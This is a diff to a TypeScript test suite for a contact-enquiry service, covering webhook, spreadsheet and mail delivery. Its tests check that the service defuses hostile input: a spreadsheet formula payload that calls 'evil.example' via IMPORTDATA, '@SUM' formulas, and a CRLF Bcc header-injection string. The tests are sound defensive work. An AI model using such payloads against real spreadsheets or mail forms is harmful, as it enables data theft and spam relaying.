@@ -4,114 +4,67 @@ import type { ServerResponse } from 'node:http';
 import { createServer, type AddressInfo, type Socket } from 'node:net';
 import { withoutFormulas } from '../../src/contact/enquiry/without-formulas.ts';
 import { Mailer } from '../../src/mail/mailer.ts';
-import { startMailServer, startWebhook, textOfMail, until } from '../support/receivers.ts';
-import { json, startApi, type Json, type TestApi } from '../support/start-api.ts';
+import { enquire as send, enquiry } from '../support/enquiries.ts';
+import { startWebhook, textOfMail, until } from '../support/receivers.ts';
+import { json, seen, testServers, type Json, type TestApi } from '../support/start-api.ts';
 
-const enquiry = (changes: Record<string, unknown> = {}) => ({
-  firstName: 'Asha',
-  lastName: 'Rao',
-  email: 'asha@example.org',
-  phone: '+91 98765 43210',
-  subject: 'A question',
-  helpyou: 'Could you look at my report, please?',
-  ...changes,
-});
 /** Enquiries that are sent at the same time. */
 const TOGETHER = { minLength: 5, maxLength: 5 };
 const FAST = { DELIVERY_FIRST_RETRY_MS: '50' };
-const stops: (() => Promise<unknown>)[] = [];
-afterEach(async () => {
-  for (const stop of stops.splice(0).reverse()) await stop();
-});
-
-async function apiWith(environment: Record<string, string>): Promise<TestApi> {
-  const api = await startApi({ ...FAST, ...environment });
-  stops.push(api.stop);
-  return api;
-}
-async function webhook(answer: (response: ServerResponse, count: number) => void) {
-  const started = await startWebhook((response, _form, count) => answer(response, count));
-  stops.push(started.stop);
-  return started;
-}
-async function mailServer() {
-  const started = await startMailServer();
-  stops.push(started.stop);
-  return started;
-}
-const send = async (api: TestApi, changes?: Record<string, unknown>): Promise<string> => {
-  const response = await api.send('POST', '/api/contact', enquiry(changes));
-  expect(response.status).toBe(201);
-  return (await json(response)).reference;
-};
+const DESK = { ENQUIRY_MAIL_TO: 'desk@example.org' };
+const { apiWith, mailServer, kept } = testServers(FAST);
+const webhook = async (answer: (response: ServerResponse, count: number) => void) =>
+  kept(await startWebhook((response, _form, count) => answer(response, count)));
 const read = async (api: TestApi, reference: string) =>
   json(api.get(`/api/admin/enquiries/${reference}`, await api.asAdmin()));
 const changeStatus = async (api: TestApi, reference: string, status: string) => {
-  const { revision } = await read(api, reference);
-  const headers = { ...(await api.asAdmin()), 'If-Match': `"${revision}"` };
-  expect((await api.send('PATCH', `/api/admin/enquiries/${reference}`, { status }, headers)).status).toBe(
-    200,
-  );
+  const headers = seen(await read(api, reference), await api.asAdmin());
+  const answer = await api.send('PATCH', `/api/admin/enquiries/${reference}`, { status }, headers);
+  expect(answer.status).toBe(200);
 };
 const delivered = (api: TestApi, reference: string) => async () =>
-  ((await read(api, reference)).deliveries as { state: string }[]).every(
-    ({ state }) => state === 'delivered',
-  );
+  (await read(api, reference)).deliveries.every(({ state }: Json) => state === 'delivered');
+/** Whether it was tried once, in vain. */
+const tried = (api: TestApi, reference: string) => async () =>
+  (await read(api, reference)).deliveries[0].attemptCount === 1;
 
-it('posts an enquiry to the endpoint as a form, with its reference', async () => {
+it('posts an enquiry to the endpoint as a form, with its reference, and nothing that a spreadsheet takes for a formula', async () => {
   const endpoint = await webhook((response) => response.end('ok'));
   const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
-  const reference = await send(api);
+  const formula = '=IMPORTDATA("evil.example")';
+  const written = { firstName: formula, subject: '＝1+1', helpyou: 'Hello\n@SUM(A1)' };
+  const reference = await send(api, written);
   await until(delivered(api, reference));
-  expect(endpoint.received).toEqual([
-    {
-      idempotencyKey: reference,
-      fields: {
-        FirstName: 'Asha',
-        LastName: 'Rao',
-        Email: 'asha@example.org',
-        // An apostrophe, which spreadsheets do not show, keeps it text.
-        Phone: "'+91 98765 43210",
-        Subject: 'A question',
-        Helpyou: 'Could you look at my report, please?',
-        Timestamp: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
-      },
-    },
-  ]);
+  // An apostrophe, which spreadsheets do not show, keeps it text.
+  const fields = {
+    ...{ FirstName: `'${formula}`, LastName: 'Rao', Email: 'asha@example.org', Phone: "'+91 98765 43210" },
+    ...{ Subject: `'＝1+1`, Helpyou: `Hello\n'@SUM(A1)` },
+    Timestamp: expect.stringMatching(/^\d{4}-\d\d-\d\dT/),
+  };
+  expect(endpoint.received).toEqual([{ idempotencyKey: reference, fields }]);
 });
 
 const FAILURES: [what: string, fail: (response: ServerResponse) => void, reason: string][] = [
   ['answers 500', (response) => response.writeHead(500).end('no'), 'status 500'],
   ['answers 404', (response) => response.writeHead(404).end('no'), 'status 404'],
   ['hangs up', (response) => response.destroy(), 'connection failed'],
-  [
-    'breaks off',
-    (response) => (
-      response.writeHead(200, { 'Content-Length': '100' }),
-      response.write('x'),
-      response.destroy()
-    ),
-    'connection failed',
-  ],
-  [
-    'answers 200 with an error page',
-    (response) => response.end('<html><title>Error</title>Script function not found</html>'),
-    'error page with status 200',
-  ],
-  [
-    'answers 200 with JSON that says error',
-    (response) => response.end('{"result":"error"}'),
-    'error page with status 200',
-  ],
+  ['breaks off', breakOff, 'connection failed'],
+  ['answers 200 with an error page', (response) => response.end(ERROR_PAGE), 'error page with status 200'],
+  ['says error', (response) => response.end('{"result":"error"}'), 'error page with status 200'],
 ];
+const ERROR_PAGE = '<html><title>Error</title>Script function not found</html>';
+function breakOff(response: ServerResponse) {
+  response.writeHead(200, { 'Content-Length': '100' }).write('x');
+  response.destroy();
+}
 
 it('tries again when the endpoint does not take an enquiry, whatever it does instead, and records why', async () => {
-  const endpoint = await startWebhook((response, { fields, idempotencyKey }) => {
+  const start = startWebhook((response, { fields, idempotencyKey }) => {
     const tries = endpoint.received.filter((one) => one.idempotencyKey === idempotencyKey).length;
     const [, fail] = FAILURES.find(([what]) => what === fields['Subject'])!;
     return tries < 3 ? fail(response) : response.end('ok');
   });
-  stops.push(endpoint.stop);
+  const endpoint = kept(await start);
   const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
   // At the same time, as they happen: one that fails holds up none of the others.
   const outcomes = await Promise.all(
@@ -133,20 +86,6 @@ it('follows the redirect that spreadsheet endpoints answer with', async () => {
   const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
   await until(delivered(api, await send(api)));
   expect(endpoint.received).toHaveLength(1);
-});
-
-it('sends nothing that a spreadsheet would take for a formula', async () => {
-  const endpoint = await webhook((response) => response.end('ok'));
-  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url });
-  const formula = '=IMPORTDATA("evil.example")';
-  await until(
-    delivered(api, await send(api, { firstName: formula, subject: '＝1+1', helpyou: 'Hello\n@SUM(A1)' })),
-  );
-  expect(endpoint.received[0]!.fields).toMatchObject({
-    FirstName: `'${formula}`,
-    Subject: `'＝1+1`,
-    Helpyou: `Hello\n'@SUM(A1)`,
-  });
 });
 
 it('reads no more than the beginning of an answer that has no end', async () => {
@@ -174,9 +113,9 @@ it('gives a mail server that goes on saying a little no more than its time', asy
     socket.on('close', () => clearInterval(timer));
   }).listen(0, '127.0.0.1');
   await once(trickle, 'listening');
-  stops.push(async () => trickle.close());
+  kept({ stop: () => trickle.close() });
   const { port } = trickle.address() as AddressInfo;
-  const api = await apiWith({ SMTP_URL: `smtp://127.0.0.1:${port}`, ENQUIRY_MAIL_TO: 'desk@example.org' });
+  const api = await apiWith({ SMTP_URL: `smtp://127.0.0.1:${port}`, ...DESK });
   api.application.nest.get(Mailer).limitMs = 300;
   const reference = await send(api);
   await until(async () => (await read(api, reference)).deliveries[0].attemptCount > 0);
@@ -193,16 +132,14 @@ it('delivers nothing more of what was found to be spam, until it is found not to
   const admin = await api.asAdmin();
   const state = async () => (await read(api, reference)).deliveries[0].state as string;
   const change = (status: string) => changeStatus(api, reference, status);
-  await until(async () => (await read(api, reference)).deliveries[0].attemptCount === 1);
+  await until(tried(api, reference));
   await change('spam');
   expect(await state()).toBe('held');
   fails = false;
-  await api.database
-    .collection('enquiries')
-    .updateMany({}, { $set: { 'deliveries.0.nextAttemptAt': new Date(0) } });
-  expect(await json(api.send('POST', '/api/admin/enquiries/held/release', undefined, admin))).toEqual({
-    released: 0,
-  });
+  const due = { $set: { 'deliveries.0.nextAttemptAt': new Date(0) } };
+  await api.database.collection('enquiries').updateMany({}, due);
+  const release = api.send('POST', '/api/admin/enquiries/held/release', undefined, admin);
+  expect(await json(release)).toEqual({ released: 0 });
   expect(endpoint.received).toHaveLength(1);
   await change('new');
   await until(delivered(api, reference));
@@ -212,7 +149,7 @@ it('delivers nothing more of what was found to be spam, until it is found not to
 it('mails an enquiry, with an answer going to the visitor', async () => {
   const server = await mailServer();
   server.state.refuse = 1;
-  const api = await apiWith({ SMTP_URL: server.url, ENQUIRY_MAIL_TO: 'desk@example.org' });
+  const api = await apiWith({ SMTP_URL: server.url, ...DESK });
   const reference = await send(api, { firstName: 'Ravi "R"', email: 'ravi@example.org' });
   await until(delivered(api, reference));
   const [mail] = server.mails;
@@ -224,7 +161,7 @@ it('mails an enquiry, with an answer going to the visitor', async () => {
 
 it('lets no visitor add headers to the mail', async () => {
   const server = await mailServer();
-  const api = await apiWith({ SMTP_URL: server.url, ENQUIRY_MAIL_TO: 'desk@example.org' });
+  const api = await apiWith({ SMTP_URL: server.url, ...DESK });
   const injected = 'x\r\nBcc: victim@example.org\r\nX-Injected: yes';
   const reference = await send(api, { subject: injected, firstName: injected, phone: '123456' });
   await until(delivered(api, reference));
@@ -237,11 +174,7 @@ it('lets no visitor add headers to the mail', async () => {
 it('delivers through both channels, each on its own', async () => {
   const server = await mailServer();
   const endpoint = await webhook((response, count) => response.writeHead(count < 4 ? 503 : 200).end());
-  const api = await apiWith({
-    ENQUIRY_WEBHOOK_URL: endpoint.url,
-    SMTP_URL: server.url,
-    ENQUIRY_MAIL_TO: 'd@example.org',
-  });
+  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url, SMTP_URL: server.url, ...DESK });
   await until(delivered(api, await send(api)));
   expect(server.mails).toHaveLength(1);
   expect(endpoint.received).toHaveLength(4);
@@ -253,12 +186,11 @@ it('says how long deliveries took, and how long the oldest waits', async () => {
   const measured = async () => (await api.get('/metrics')).text();
   expect(await measured()).toContain('api_enquiries_oldest_waiting_seconds 0\n');
   const reference = await send(api);
-  await until(async () => (await read(api, reference)).deliveries[0].attemptCount === 1);
+  await until(tried(api, reference));
   const received = { receivedAt: new Date(Date.now() - 400_000) };
   await api.database.collection('enquiries').updateOne({ _id: reference as never }, { $set: received });
-  expect(Number(/^api_enquiries_oldest_waiting_seconds (.+)$/m.exec(await measured())?.[1])).toBeGreaterThan(
-    399,
-  );
+  const oldest = /^api_enquiries_oldest_waiting_seconds (.+)$/m.exec(await measured())?.[1];
+  expect(Number(oldest)).toBeGreaterThan(399);
   expect(await measured()).not.toContain('api_enquiry_delivery_seconds_count');
   await api.send('POST', `/api/admin/enquiries/${reference}/retry`, undefined, await api.asAdmin());
   await until(delivered(api, reference));
@@ -268,21 +200,14 @@ it('says how long deliveries took, and how long the oldest waits', async () => {
 });
 
 it('gives up after a day, shows it, and tries again when the admin says so', async () => {
-  const endpoint = await webhook((response, count) => response.writeHead(count < 2 ? 500 : 200).end());
+  const endpoint = await webhook((response) => response.writeHead(500).end());
   const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url, DELIVERY_FIRST_RETRY_MS: '600000' });
   const reference = await send(api);
-  await until(() => endpoint.received.length === 1);
-  await until(async () => (await read(api, reference)).deliveries[0].attemptCount === 1);
+  await until(tried(api, reference));
   const old = new Date(Date.now() - 25 * 3_600_000);
-  await api.database
-    .collection('enquiries')
-    .updateOne(
-      { _id: reference as never },
-      { $set: { 'deliveries.0.waitingSince': old, 'deliveries.0.nextAttemptAt': old, nextDeliveryAt: old } },
-    );
-  // The second attempt of this endpoint succeeds, so make the first of them fail by stopping it.
-  await endpoint.stop();
-  stops.splice(stops.indexOf(endpoint.stop), 1);
+  const waiting = { 'deliveries.0.waitingSince': old, 'deliveries.0.nextAttemptAt': old };
+  const enquiries = api.database.collection<{ _id: string }>('enquiries');
+  await enquiries.updateOne({ _id: reference }, { $set: { ...waiting, nextDeliveryAt: old } });
   await until(async () => (await read(api, reference)).deliveries[0].state === 'dead');
   const admin = await api.asAdmin();
   expect(await json(api.get('/api/admin/enquiries?delivery=dead', admin))).toHaveLength(1);
@@ -333,23 +258,16 @@ it('sends each of 60 once with three instances at work, and takes over from one 
 it('brings every character of names and messages through: database, endpoint, mail and CSV', async () => {
   const server = await mailServer();
   const endpoint = await webhook((response) => response.end('ok'));
-  const api = await apiWith({
-    ENQUIRY_WEBHOOK_URL: endpoint.url,
-    SMTP_URL: server.url,
-    ENQUIRY_MAIL_TO: 'd@example.org',
-  });
+  const api = await apiWith({ ENQUIRY_WEBHOOK_URL: endpoint.url, SMTP_URL: server.url, ...DESK });
   const admin = await api.asAdmin();
 
-  const printable = (text: string) =>
-    !/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/.test(text) && text.trim() === text && text !== '';
-  const name = fc
-    .string({ unit: 'grapheme', minLength: 1, maxLength: 15 })
-    .filter(printable)
-    .filter((text) => text.length <= 80);
-  const message = fc
-    .string({ unit: 'grapheme', minLength: 10, maxLength: 60 })
-    .filter(printable)
-    .filter((text) => text.length >= 10);
+  const printable = (minLength: number, maxLength: number) =>
+    fc
+      .string({ unit: 'grapheme', minLength, maxLength })
+      .filter((text) => !/[\u0000-\u001f\u007f-\u009f\u2028\u2029]/.test(text) && text.trim() === text)
+      .filter((text) => text.length >= minLength);
+  const name = printable(1, 15).filter((text) => text.length <= 80);
+  const message = printable(10, 60);
   await fc.assert(
     fc.asyncProperty(fc.array(fc.tuple(name, message), TOGETHER), async (written) => {
       const references = await Promise.all(
@@ -379,18 +297,12 @@ it('brings every character of names and messages through: database, endpoint, ma
 it('writes a line about every request and every failed delivery, and nothing that people sent into any of them', async () => {
   const { spawnApi } = await import('../support/spawn-api.ts');
   const canary = 'canary7391';
-  const running = await spawnApi({
-    LOG_LEVEL: 'trace',
-    ENQUIRY_WEBHOOK_URL: 'http://127.0.0.1:9/nobody',
-    ...FAST,
-  });
-  stops.push(running.kill);
+  const nowhere = { ENQUIRY_WEBHOOK_URL: 'http://127.0.0.1:9/nobody' };
+  const running = await spawnApi({ LOG_LEVEL: 'trace', ...nowhere, ...FAST });
+  kept({ stop: running.kill });
   const body = enquiry({
-    firstName: canary,
-    lastName: canary,
-    email: `${canary}@example.org`,
-    subject: canary,
-    helpyou: canary.repeat(3),
+    ...{ firstName: canary, lastName: canary, email: `${canary}@example.org` },
+    ...{ subject: canary, helpyou: canary.repeat(3) },
   });
   const answers = new Map<string, number>();
   const ask = async (path: string, init?: RequestInit) => {
@@ -399,8 +311,7 @@ it('writes a line about every request and every failed delivery, and nothing tha
   };
   const post = (path: string, sent: unknown) =>
     ask(path, {
-      method: 'POST',
-      headers: { 'Content-Type': 'application/json' },
+      ...{ method: 'POST', headers: { 'Content-Type': 'application/json' } },
       body: JSON.stringify(sent),
     });
   await post('/api/contact', body);
